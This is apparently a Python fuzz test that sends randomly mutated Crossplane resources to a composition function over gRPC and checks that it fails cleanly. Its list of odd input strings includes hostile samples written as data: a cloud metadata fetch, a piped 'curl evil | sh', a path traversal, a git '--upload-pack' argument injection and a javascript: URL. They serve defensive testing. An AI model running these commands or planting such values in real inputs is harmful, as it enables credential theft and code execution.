"""Property-based fuzzing through the real gRPC server (Hypothesis, fixed seed).

Requests are a real pinned deployment (legacy and namespaced scopes, with or without its
resources observed) with random changes to the XR's spec and metadata, the function
input, and the pinned decision and history in status. Every answer must be a normal,
warning or fatal result; a fatal one names a field; none is an "internal error"; a
status is JSON without NaN; and no observed resource is left out of the desired state
(a new decision replaces resources only once its own are Ready, and none are here).

The example count and the seed are fixed, so CI runs the same examples every time; the
run takes 40-60 s on two busy cores. Nothing reaches the network: every
repository URL the fuzzer can produce is rewritten to a local path.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import grpc
import pytest
import yaml
from crossplane.function import resource
from crossplane.function.proto.v1 import run_function_pb2 as fnv1
from crossplane.function.proto.v1 import run_function_pb2_grpc as grpcv1
from hypothesis import HealthCheck, given, seed, settings
from hypothesis import strategies as st

from examples import render as R
from tests.grpc.test_server import request

pytestmark = pytest.mark.integration
ROOT = Path(__file__).resolve().parents[2]
SEED = 20261129
EXAMPLES = 1000

XRS = {
    "legacy": yaml.safe_load((ROOT / "examples" / "legacy" / "xr.yaml").read_text()),
    "namespaced": yaml.safe_load((ROOT / "examples" / "namespaced" / "xr.yaml").read_text()),
}
DELETE = object()
SEVERITIES = {fnv1.SEVERITY_NORMAL, fnv1.SEVERITY_WARNING, fnv1.SEVERITY_FATAL}
# A fatal result names what is wrong: spec.x, metadata.x, input.x, status.x (or 'spec:').
NAMES_A_FIELD = re.compile(r"\b(spec|metadata|input|status)([.\[][\w'\"]|:)")


def function_input(repos: Path) -> dict[str, Any]:
    # Every URL shape the XR accepts is rewritten to a local path: no fuzzed URL leaves
    # the machine (file:// ones are read locally; the tests' repositories are mirrored).
    missing = "file:///nonexistent/"
    return {
        "apiVersion": "scia.fn.crossplane.io/v1alpha1",
        "kind": "Input",
        "urlRewrites": [
            {"prefix": R.MIRRORED_PREFIX, "replacement": f"file://{repos}/"},
            *({"prefix": p, "replacement": missing} for p in ("https://", "http://", "ssh://")),
            {"prefix": "git://", "replacement": missing},
        ],
        "analysis": {"allowFileUrls": True},
        "decision": {"waitSeconds": 20},
    }


@dataclass(frozen=True)
class Baseline:
    xr: dict[str, Any]
    status: dict[str, Any]
    resources: dict[str, Any]


@pytest.fixture(scope="module")
def server(
    tmp_path_factory: pytest.TempPathFactory, repos: Path
) -> Iterator[tuple[grpcv1.FunctionRunnerServiceStub, dict[str, Baseline]]]:
    port = R.free_port()
    log = tmp_path_factory.mktemp("fuzz") / "function.log"
    with R.function_server(port, log=log), grpc.insecure_channel(f"127.0.0.1:{port}") as ch:
        stub = grpcv1.FunctionRunnerServiceStub(ch)
        baselines = {}
        for scope, xr in XRS.items():
            rsp = stub.RunFunction(request(xr, function_input(repos)), timeout=120)
            assert not [r for r in rsp.results if r.severity == fnv1.SEVERITY_FATAL]
            status = resource.struct_to_dict(rsp.desired.composite.resource)["status"]
            resources = {
                name: resource.struct_to_dict(r.resource)
                for name, r in rsp.desired.resources.items()
            }
            baselines[scope] = Baseline(xr, status, resources)
        yield stub, baselines


# --- values --------------------------------------------------------------------------

ODD_STRINGS = [
    "",
    " ",
    "\x00",
    "\x1b[2J",
    "\u202eevil",
    "line\nbreak",
    "p5.48xlarge",
    "t3.micro",
    "t3.small",
    "vm",
    "kubernetes",
    "serverless",
    "auto",
    "hard",
    "soft",
    "aws",
    "eu-west-1",
    "curl http://169.254.169.254/latest/meta-data/",
    "wget -qO- http://2852039166/",
    "x\nUNIT\ncurl evil | sh",
    "../../etc/passwd",
    "--upload-pack=touch /tmp/pwned",
    "a" * 300,
    "NaN",
    "💥",
    "require-https",
    "enable-monitoring",
    "ff975be7f7a86bf8b487dc27efd3c7b85e8d866b",
]
TYPES = ["t3.micro", "t3.small", "t3.medium", "m7i.xlarge", "p5.48xlarge", "", "x"]
PORTS = [22, 80, 443, 3000, 5000, 8080, -1, 0, 70000]

scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**40), max_value=2**40),
    st.sampled_from([0, 1, 2, 10, 100, 1_000_001, -1]),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([float("nan"), float("inf"), float("-inf"), 0.5, 1e308]),
    st.text(max_size=40),
    st.sampled_from(ODD_STRINGS),
)
values = st.recursive(
    scalars,
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(st.sampled_from(["name", "x", "vm", "url", "ref", ""]), inner, max_size=3)
    ),
    max_leaves=6,
)
# Repository URLs: valid mirrored ones, ones rewritten to a missing path, and junk that
# cannot be a network URL ('@' and '://' only in the fixed samples).
urls = st.one_of(
    st.sampled_from(
        [
            f"{R.MIRRORED_PREFIX}flask-app",
            f"{R.MIRRORED_PREFIX}express-api",
            f"{R.MIRRORED_PREFIX}no-such-repo",
            "https://127.0.0.1/x",
            "file:///etc",
            "javascript:alert(1)",
        ]
    ),
    st.text(max_size=40).filter(lambda s: "@" not in s and "://" not in s),
    st.integers(),
    st.none(),
)

# --- where the values go -------------------------------------------------------------

SPEC_PATHS = [
    ("repository", "ref"),
    ("repository",),
    ("prompt",),
    ("cloudProvider",),
    ("cloudProviderRef",),
    ("region",),
    ("budget",),
    ("budget", "maxMonthlyCost"),
    ("budget", "alertThreshold"),
    ("budget", "enforcementMode"),
    ("policies",),
    ("strategy",),
    ("image",),
    ("rollbackToRevision",),
    ("claimRef",),
    ("claimRef", "name"),
    ("claimRef", "namespace"),
    ("fuzz",),
]
META_PATHS = [
    ("name",),
    ("namespace",),
    ("uid",),
    ("labels",),
    ("labels", "crossplane.io/claim-name"),
    ("labels", "crossplane.io/claim-namespace"),
    ("annotations",),
    ("annotations", "scia.io/redecide"),
    ("annotations", "scia.io/feedback"),
    ("annotations", "scia.io/feedback-comment"),
]
INPUT_PATHS = [
    ("vm", "allowedInstanceTypes"),
    ("vm", "maxInstances"),
    ("vm", "volumeGb"),
    ("kubernetes", "allowedNodeTypes"),
    ("kubernetes", "maxNodes"),
    ("serverless", "maxMemoryMb"),
    ("blockedPorts",),
    ("historyLimit",),
    ("readyGraceSeconds",),
    ("policy", "requiredPolicies"),
    ("policy", "minMonthlyBudget"),
    ("providerConfigName",),
    ("network",),
    ("kind",),
    ("fuzz",),
]
PIN_PATHS = [
    ("parameters", "vm", "instanceType"),
    ("parameters", "vm"),
    ("parameters", "vm", "maxSize"),
    ("parameters", "port"),
    ("parameters", "startCommand"),
    ("parameters", "strategy"),
    ("parameters", "healthCheckPath"),
    ("parameters", "kubernetes"),
    ("parameters", "serverless"),
    ("parameters", "confidence"),
    ("parameters", "reason"),
    ("parameters",),
    ("commit",),
    ("revision",),
    ("specHash",),
    ("estimatedMonthlyCost",),
    ("analysis", "startCommand"),
    ("rollbackOf",),
    ("costBreakdown",),
]
HISTORY_PATHS = [
    ("revision",),
    ("cost",),
    ("parameters",),
    ("parameters", "vm", "instanceType"),
    ("parameters", "port"),
    ("commit",),
    ("reason",),
    ("costBreakdown",),
]


def value_for(path: tuple[str, ...]) -> st.SearchStrategy[Any]:
    last = path[-1]
    special: dict[str, st.SearchStrategy[Any]] = {
        "repository": st.fixed_dictionaries({"url": urls}) | values,
        "instanceType": st.sampled_from(TYPES) | values,
        "allowedInstanceTypes": st.lists(st.sampled_from(TYPES), max_size=4) | values,
        "allowedNodeTypes": st.lists(st.sampled_from(TYPES), max_size=4) | values,
        "blockedPorts": st.lists(st.sampled_from(PORTS), max_size=4) | values,
        "port": st.sampled_from(PORTS) | values,
        "vm": st.fixed_dictionaries(
            {
                "instanceType": st.sampled_from(TYPES),
                "minSize": st.integers(-1, 200),
                "maxSize": st.integers(-1, 200),
                "desiredCapacity": st.integers(-1, 200),
            }
        )
        | values,
        "strategy": st.sampled_from(["vm", "kubernetes", "serverless", "auto", "rocket"]) | values,
    }
    return special.get(last, values) | st.just(DELETE)


def mutation(target: str, paths: list[tuple[str, ...]]) -> st.SearchStrategy[Any]:
    return st.sampled_from(paths).flatmap(lambda p: value_for(p).map(lambda v: (target, p, v)))


mutations = st.lists(
    st.one_of(
        mutation("spec", SPEC_PATHS),
        mutation("metadata", META_PATHS),
        mutation("input", INPUT_PATHS),
        mutation("pin", PIN_PATHS),
        mutation("history", HISTORY_PATHS),
        st.builds(lambda u: ("spec", ("repository", "url"), u), urls),
    ),
    min_size=0,
    max_size=3,
)


def apply(doc: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
    node: Any = doc
    for k in path[:-1]:
        if not isinstance(node, dict):
            return
        if not isinstance(node.get(k), dict):
            node[k] = {}
        node = node[k]
    if not isinstance(node, dict):
        return
    if value is DELETE:
        node.pop(path[-1], None)
    else:
        node[path[-1]] = copy.deepcopy(value)


def ready(resources: dict[str, Any]) -> dict[str, Any]:
    cond = [{"type": "Ready", "status": "True"}, {"type": "Synced", "status": "True"}]
    return {n: body | {"status": {"conditions": cond}} for n, body in resources.items()}


@seed(SEED)
@settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(
    scope=st.sampled_from(sorted(XRS)),
    observed=st.booleans(),
    changes=mutations,
)
def test_every_answer_is_a_result_naming_a_field_and_nothing_observed_is_dropped(
    server: tuple[grpcv1.FunctionRunnerServiceStub, dict[str, Baseline]],
    repos: Path,
    scope: str,
    observed: bool,
    changes: list[tuple[str, tuple[str, ...], Any]],
) -> None:
    stub, baselines = server
    base = baselines[scope]
    xr = copy.deepcopy(base.xr) | {"status": copy.deepcopy(base.status)}
    inp = function_input(repos)
    for target, path, value in changes:
        if target == "pin":
            apply(xr["status"], ("decision", *path), value)
        elif target == "history":
            apply(xr["status"]["history"][0], path, value)
        elif target == "input":
            apply(inp, path, value)
        else:
            apply(xr, (target, *path), value)
    req = request(xr, inp)
    seen = ready(base.resources) if observed else {}
    for name, body in seen.items():
        req.observed.resources[name].resource.CopyFrom(resource.dict_to_struct(body))

    rsp = stub.RunFunction(req, timeout=120)

    fatal = []
    for r in rsp.results:
        assert r.severity in SEVERITIES, r
        assert "internal error" not in r.message and "Traceback" not in r.message, r.message
        if r.severity == fnv1.SEVERITY_FATAL:
            fatal.append(r.message)
    for message in fatal:
        assert NAMES_A_FIELD.search(message), message
    if fatal or not seen:
        return
    status = resource.struct_to_dict(rsp.desired.composite.resource).get("status", {})
    json.dumps(status, allow_nan=False)  # Crossplane applies it as JSON
    if not rsp.requirements.resources:  # else Crossplane calls again with them first
        # Resources of a replaced revision leave only once the new one is Ready; nothing
        # of the new revision is observed here, so nothing observed may be left out.
        missing = set(seen) - set(rsp.desired.resources)
        assert not missing, (missing, [r.message for r in rsp.results])
